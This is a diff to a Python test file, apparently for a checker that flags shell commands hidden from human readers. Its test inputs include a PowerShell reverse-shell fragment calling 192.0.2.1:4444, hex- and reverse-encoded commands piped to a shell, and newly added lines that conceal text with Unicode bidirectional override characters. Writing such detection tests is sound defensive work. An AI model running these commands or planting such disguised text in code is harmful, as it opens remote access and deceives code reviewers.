@@ -47,6 +47,8 @@ def script(text: str) -> Script:
         "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444); $d = iex $x",
         "echo 6c73 | xxd -r -p | sh",
         "echo 'sl' | rev | bash",
+        "echo done \u202e # }tixe; { &&",
+        "make \u2066# checked\u2069",
     ],
 )
 def test_what_nobody_can_read(text: str) -> None:
@@ -57,6 +59,7 @@ def test_what_nobody_can_read(text: str) -> None:
     "text",
     [
         "# echo aGk= | base64 -d | sh",
+        "echo '\u0645\u0631\u062d\u0628\u0627 \u200f \U0001f469\u200d\U0001f4bb'",
         'echo "$KUBECONFIG" | base64 -d > ~/.kube/config',
         "base64 -d a | gpg --import",
         "base64 -d a | python3 -m json.tool",
